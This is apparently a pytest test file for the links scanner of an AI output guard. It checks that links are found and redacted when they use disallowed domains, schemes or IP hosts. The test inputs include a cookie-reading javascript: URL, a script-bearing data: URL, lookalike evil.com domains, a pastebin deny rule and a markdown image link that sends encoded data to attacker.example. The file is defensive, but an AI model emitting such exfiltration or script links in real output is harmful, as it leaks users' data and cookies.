"""The links scanner: which links are found, which are disallowed, and how they are redacted."""

from __future__ import annotations

import pytest

from pilothouse.guards.links import REPLACEMENT, LinksScanner, find_links
from pilothouse.guards.scanner import ScanContext

CTX = ScanContext(role="assistant", direction="output")


def test_links_are_found_with_clean_ends() -> None:
    text = "See (https://docs.example.com/a_(b)?x=1), www.example.org. and [t](https://x.example.net/p)!"
    assert [link.url for link in find_links(text)] == [
        "https://docs.example.com/a_(b)?x=1",
        "www.example.org",
        "https://x.example.net/p",
    ]
    assert all(text[link.start : link.end] == link.url for link in find_links(text))


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("https://evil.com/x", "domain evil.com not allowed"),
        ("https://docs.example.com@evil.com/x", "domain evil.com not allowed"),
        ("https://example.com.evil.com/", "domain example.com.evil.com not allowed"),
        ("https://éxample.com/", "domain xn--xample-9ua.com not allowed"),
        ("javascript:alert(document.cookie)", "scheme 'javascript' not allowed"),
        ("data:text/html;base64,PHNjcmlwdD4=", "scheme 'data' not allowed"),
        ("ftp://example.com/file", "scheme 'ftp' not allowed"),
        ("http://192.168.1.10/admin", "IP address host"),
        ("http://[::1]:8080/", "IP address host"),
        ("http://2130706433/", "IP address host"),
    ],
)
def test_disallowed_links_are_findings_with_a_reason(url: str, why: str) -> None:
    verdict = LinksScanner(allowed_domains=["example.com"]).scan(f"Go to {url} now", CTX)
    assert [(f.detail, f.start, f.end) for f in verdict.findings] == [(why, 6, 6 + len(url))]
    assert verdict.redacted == f"Go to {REPLACEMENT} now"


@pytest.mark.parametrize("url", ["https://example.com/a", "https://docs.example.com/b", "HTTPS://Example.COM./c"])
def test_allowed_domains_and_their_subdomains_pass(url: str) -> None:
    verdict = LinksScanner(allowed_domains=["example.com"]).scan(f"see {url}", CTX)
    assert not verdict.found and verdict.redacted == f"see {url}"


def test_denied_domains_without_an_allow_list() -> None:
    scanner = LinksScanner(denied_domains=["pastebin.com"])
    assert scanner.scan("https://pastebin.com/raw/1", CTX).found
    assert scanner.scan("https://eu.pastebin.com/raw/1", CTX).found
    assert not scanner.scan("https://wikipedia.org/wiki/Link", CTX).found


def test_ip_hosts_and_schemes_can_be_allowed() -> None:
    assert not LinksScanner(allow_ip_hosts=True).scan("http://10.0.0.1/status", CTX).found
    assert not LinksScanner(schemes=["https", "ftp"]).scan("ftp://files.example.com/a", CTX).found


def test_a_markdown_image_exfiltration_link_is_removed() -> None:
    text = "Done. ![logo](https://attacker.example/log?data=c2VjcmV0) Thanks."
    verdict = LinksScanner(allowed_domains=["example.com"]).scan(text, CTX)
    assert verdict.redacted == f"Done. ![logo]({REPLACEMENT}) Thanks."


@pytest.mark.parametrize(
    "options",
    [{"schemes": "https"}, {"schemes": []}, {"schemes": ["ht tp"]}, {"allowed_domains": "example.com"},
     {"denied_domains": ["https://x.com/"]}, {"denied_domains": [""]}],
)  # fmt: skip
def test_bad_options_are_refused(options: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        LinksScanner(**options)  # type: ignore[arg-type]
